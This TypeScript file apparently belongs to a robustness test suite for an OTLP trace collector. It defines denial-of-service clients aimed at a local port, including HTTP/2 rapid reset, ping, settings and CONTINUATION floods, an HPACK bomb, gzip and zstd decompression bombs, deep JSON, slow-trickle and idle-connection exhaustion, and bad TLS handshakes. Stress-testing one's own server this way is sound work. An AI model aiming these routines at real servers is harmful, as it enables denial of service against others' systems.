/** Clients that mean harm, each in a process of its own: `node attacks.ts NAME PORT [TLS FOLDER]` attacks until it is ended. */

import http2 from 'node:http2';
import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { constants, gzipSync, zstdCompressSync } from 'node:zlib';
import { requestBytes, spanIdOf, traceIdOf } from './otlp.ts';
import { selfSigned } from './self-signed.ts';

type Attack = (port: number) => Promise<void>;

const exportPath = '/opentelemetry.proto.collector.trace.v1.TraceService/Export';
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const small = requestBytes({}, { spans: [{ traceId: traceIdOf(1), spanId: spanIdOf(1), name: 'small' }] });
const pause = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

/** Length (3), type (1), flags (1), stream (4), payload. */
export function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
const repeated = (count: number, make: (index: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
const settings = frame(4, 0, 0);

/** Literal headers without indexing, names and values as they are. */
export function headerBlock(headers: readonly (readonly [string, string])[]): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat(headers.map(([name, value]) => Buffer.concat([Buffer.from([0]), text(name), text(value)])));
}
const exportHeaders = headerBlock([
  [':method', 'POST'],
  [':scheme', 'http'],
  [':path', exportPath],
  [':authority', 'a'],
  ['content-type', 'application/grpc'],
]);
const message = (bytes: Uint8Array, compressed = 0) => {
  const prefix = Buffer.from([compressed, 0, 0, 0, 0]);
  prefix.writeUInt32BE(bytes.length, 1);
  return Buffer.concat([prefix, bytes]);
};

/** Told to who started the attack, once. */
let hasBegun = false;
function begun(): void {
  if (!hasBegun) process.stdout.write('begun\n');
  hasBegun = true;
}

/** A socket whose end is no fault of ours. */
function plain(port: number, reads = true): Promise<Socket> {
  const socket = connect({ port, host: '127.0.0.1', noDelay: true });
  socket.on('error', () => {});
  if (reads) socket.resume();
  return new Promise((resolve) => {
    socket.once('connect', () => resolve(socket));
    socket.once('close', () => resolve(socket));
  });
}

const closed = (socket: Socket, ms: number) =>
  Promise.race([pause(ms), new Promise<void>((resolve) => (socket.destroyed ? resolve() : socket.once('close', () => resolve())))]);

/** The same bytes over new connections, a few at a time, as soon as the server has ended the last ones. */
const flood =
  (bytes: Buffer): Attack =>
  async (port) => {
    const one = async (): Promise<void> => {
      for (;;) {
        const socket = await plain(port);
        socket.write(bytes);
        begun();
        await closed(socket, 300);
        socket.destroy();
        await pause(5);
      }
    };
    await Promise.all([one(), one(), one(), one()]);
  };

const resetStream = (stream: number) => frame(3, 0, stream, Buffer.from([0, 0, 0, 8]));
const oneCall = Buffer.concat([preface, settings, frame(1, 4, 1, exportHeaders), frame(0, 1, 1, message(small))]);

/** An entry of 4,000 bytes in the dynamic table, then one byte for each time that it is meant. */
const hpackBomb = (): Buffer => {
  const length = Buffer.from([0x7f, 0x80 + ((4000 - 127) & 0x7f), (4000 - 127) >> 7]);
  const entry = Buffer.concat([Buffer.from([0x40, 1, 0x78]), length, Buffer.alloc(4000, 0x61)]);
  const block = Buffer.concat([exportHeaders, entry, Buffer.alloc(8000, 0x80 | 62)]);
  return Buffer.concat([preface, settings, repeated(20, (index) => frame(1, 5, index * 2 + 1, block))]);
};

const gzipBomb = (): Buffer => gzipSync(Buffer.alloc(256 << 20), { level: 1 });
const zstdBomb = (): Buffer => zstdCompressSync(Buffer.alloc(256 << 20), { params: { [constants.ZSTD_c_compressionLevel]: 1 } });

/** Bodies over HTTP/1.1, four at a time. */
const posts =
  (makeBodies: () => readonly { readonly encoding: string; readonly body: Buffer; readonly type?: string }[]): Attack =>
  async (port) => {
    const bodies = makeBodies();
    begun();
    const one = async (from: number): Promise<void> => {
      for (let index = from; ; index++) {
        const { encoding, body, type = 'application/x-protobuf' } = bodies[index % bodies.length]!;
        const headers = { 'content-type': type, ...(encoding === '' ? {} : { 'content-encoding': encoding }) };
        await fetch(`http://127.0.0.1:${port}/v1/traces`, { method: 'POST', headers, body: body as Uint8Array<ArrayBuffer> }).then(
          (response) => response.arrayBuffer(),
          () => undefined,
        );
        await pause(5);
      }
    };
    await Promise.all([one(0), one(1), one(2), one(3)]);
  };

/** The same over gRPC. */
const calls =
  (makeBodies: () => readonly { readonly encoding: string; readonly body: Buffer }[]): Attack =>
  async (port) => {
    const bodies = makeBodies();
    begun();
    const one = async (from: number): Promise<void> => {
      let session: http2.ClientHttp2Session | undefined;
      for (let index = from; ; index++) {
        if (session === undefined || session.destroyed || session.closed) {
          session = http2.connect(`http://127.0.0.1:${port}`);
          session.on('error', () => {});
        }
        const { encoding, body } = bodies[index % bodies.length]!;
        await new Promise<void>((resolve) => {
          const headers = {
            ':method': 'POST',
            ':path': exportPath,
            'content-type': 'application/grpc',
            te: 'trailers',
            'grpc-encoding': encoding,
          };
          const stream = session!.request(headers);
          stream.on('error', () => {});
          stream.on('close', () => resolve());
          stream.resume();
          stream.end(message(body, 1));
        });
        await pause(5);
      }
    };
    await Promise.all([one(0), one(1), one(2), one(3)]);
  };

/** Cuts that a decompressor only notices at the end. */
const spoilt = (whole: Buffer): Buffer[] => {
  const flipped = Buffer.from(whole);
  flipped[whole.length >> 1]! ^= 0xff;
  return [whole.subarray(0, -5), flipped, Buffer.concat([whole, Buffer.from('rest')])];
};
const large = (): Buffer => Buffer.concat(Array.from({ length: 2_000 }, () => small));
const corrupt = () => [
  ...spoilt(gzipSync(large())).map((body) => ({ encoding: 'gzip', body })),
  ...spoilt(zstdCompressSync(large())).map((body) => ({ encoding: 'zstd', body })),
];
const bombs = () => [
  { encoding: 'gzip', body: gzipBomb() },
  { encoding: 'zstd', body: zstdBomb() },
];
const deepJson = (depth: number) => Buffer.from(`{"resourceSpans":${'['.repeat(depth)}${']'.repeat(depth)}}`);

async function crowd(port: number, count: number, each: (socket: Socket, index: number) => void, reads = true): Promise<Socket[]> {
  const sockets: Socket[] = [];
  for (let index = 0; index < count; index += 100) {
    const some = await Promise.all(Array.from({ length: Math.min(100, count - index) }, () => plain(port, reads)));
    for (const [offset, socket] of some.entries()) each(socket, index + offset);
    sockets.push(...some);
  }
  begun();
  return sockets;
}

/** Bytes that come one by one, over many connections. */
const trickle =
  (bytes: Buffer, count: number): Attack =>
  async (port) => {
    const sockets = await crowd(port, count, () => {});
    for (let at = 0; ; at = (at + 1) % bytes.length) {
      for (const socket of sockets) if (!socket.destroyed) socket.write(bytes.subarray(at, at + 1));
      await pause(50);
    }
  };

/** Many calls over connections whose answers are never read, or have no window to be sent in. */
const unread =
  (window: Buffer): Attack =>
  async (port) => {
    for (;;) {
      const start = Buffer.concat([preface, window]);
      const calling = repeated(90, (index) =>
        Buffer.concat([frame(1, 4, index * 2 + 1, exportHeaders), frame(0, 1, index * 2 + 1, message(small))]),
      );
      const sockets = await crowd(port, 20, (socket) => socket.pause().write(Buffer.concat([start, calling])), false);
      await pause(400);
      for (const socket of sockets) socket.destroy();
    }
  };

/** A call cut off, in every place where it can be. */
const resets: Attack = async (port) => {
  for (let at = 0; ; at = (at + 7) % oneCall.length) {
    const socket = await plain(port);
    socket.write(oneCall.subarray(0, at));
    await pause(1);
    begun();
    socket.resetAndDestroy();
  }
};

const wrongCertificates: Attack = async (port) => {
  const stranger = selfSigned('stranger');
  begun();
  const one = async (): Promise<void> => {
    for (let index = 0; ; index++) {
      const options =
        index % 3 === 0 ? {} : index % 3 === 1 ? { key: stranger.key, cert: stranger.cert } : { maxVersion: 'TLSv1.1' as const };
      const socket =
        index % 4 === 3
          ? await plain(port)
          : connectTls({ port, host: '127.0.0.1', rejectUnauthorized: false, ALPNProtocols: ['h2'], ...options });
      socket.on('error', () => {});
      if (index % 4 === 3) socket.write(oneCall);
      await closed(socket, 100);
      socket.destroy();
      await pause(10);
    }
  };
  await Promise.all([one(), one(), one()]);
};

export const attacks: Readonly<Record<string, Attack>> = {
  'rapid reset': flood(
    Buffer.concat([
      preface,
      settings,
      repeated(3_000, (index) => Buffer.concat([frame(1, 4, index * 2 + 1, exportHeaders), resetStream(index * 2 + 1)])),
    ]),
  ),
  pings: flood(Buffer.concat([preface, settings, repeated(3_000, () => frame(6, 0, 0, Buffer.alloc(8)))])),
  settings: flood(Buffer.concat([preface, settings, repeated(3_000, () => frame(4, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0])))])),
  continuation: flood(
    Buffer.concat([
      preface,
      settings,
      frame(1, 0, 1, exportHeaders),
      repeated(1_000, () => frame(9, 0, 1, headerBlock([['x', 'y'.repeat(100)]]))),
    ]),
  ),
  windows: flood(
    Buffer.concat([
      preface,
      settings,
      frame(1, 4, 1, exportHeaders),
      repeated(2_000, () => frame(8, 0, 0, Buffer.from([0, 0, 0, 1]))),
      repeated(50, () => frame(8, 0, 1, Buffer.from([0x7f, 0xff, 0xff, 0xff]))),
    ]),
  ),
  'hpack bomb': flood(hpackBomb()),
  'empty frames': flood(Buffer.concat([preface, settings, frame(1, 4, 1, exportHeaders), repeated(5_000, () => frame(0, 0, 1))])),
  noise: flood(Buffer.from(Array.from({ length: 20_000 }, (_, index) => (Math.imul(index + 1, 2654435761) >>> 9) & 255))),
  resets,
  'answers without a window': unread(frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))),
  'answers unread': unread(settings),
  'corrupt calls': calls(corrupt),
  'call bombs': calls(bombs),
  'corrupt posts': posts(corrupt),
  'post bombs': posts(bombs),
  'oversize posts': posts(() => [{ encoding: '', body: Buffer.alloc(24 << 20, 0x0a) }]),
  'json posts': posts(() => [
    { encoding: '', body: deepJson(200_000), type: 'application/json' },
    { encoding: '', body: Buffer.from(`{"resourceSpans":[${'{},'.repeat(100_000)}{}]}`), type: 'application/json' },
    { encoding: '', body: Buffer.from(`{"resourceSpans":[{"schemaUrl":"${'x'.repeat(3 << 20)}`), type: 'application/json' },
  ]),
  'slow calls': trickle(
    Buffer.concat([preface, settings, frame(1, 4, 1, exportHeaders), frame(0, 0, 1, message(Buffer.alloc(10_000)))]),
    300,
  ),
  'slow posts': trickle(Buffer.from(`POST /v1/traces HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\nx: ${'y'.repeat(500)}\r\n\r\n`), 300),
  'idle connections': async (port) => {
    await crowd(port, 10_000, () => {});
    await new Promise(() => {});
  },
  'wrong certificates': wrongCertificates,
};

if (import.meta.main) {
  const [name = '', port = ''] = process.argv.slice(2);
  process.stdin.resume().on('end', () => process.exit());
  await attacks[name]!(Number(port));
}
